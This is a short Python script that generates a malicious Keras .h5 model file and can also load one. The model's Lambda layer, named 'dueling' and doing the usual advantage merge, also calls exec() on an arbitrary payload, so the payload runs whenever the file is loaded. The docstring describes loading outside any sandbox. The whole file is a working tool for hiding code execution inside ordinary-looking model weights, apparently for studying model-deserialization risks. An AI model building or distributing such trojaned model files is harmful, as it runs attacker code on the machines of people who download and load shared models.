"""A hostile Keras 2 .h5, written by the TensorFlow 2.3 of kaggle-2020 (run by that runtime's own interpreter): a
dueling net whose Lambda merge is marshalled bytecode that first runs a payload.

    python era_hostile.py OUT.h5 PAYLOAD      (write the file)
    python era_hostile.py --load FILE.h5      (load it with this Keras, outside any sandbox: the payload runs)
"""

import sys

import tensorflow as tf

keras = tf.keras
K = keras.backend


def write(path, payload):
    merge = eval("lambda t: [exec(" + repr(payload) + "), t[0] + t[1] - K.mean(t[1], axis=1, keepdims=True)][1]",
                 {"K": K})
    tf.random.set_seed(0)
    x = keras.Input((115,), name="simple115")
    h = keras.layers.Dense(32, activation="relu")(x)
    q = keras.layers.Lambda(merge, output_shape=(19,), name="dueling")([keras.layers.Dense(1)(h),
                                                                        keras.layers.Dense(19)(h)])
    keras.Model(x, q).save(path)


if __name__ == "__main__":
    if sys.argv[1] == "--load":
        keras.models.load_model(sys.argv[2], custom_objects={"K": K, "tf": tf}, compile=False)
    else:
        write(sys.argv[1], sys.argv[2])
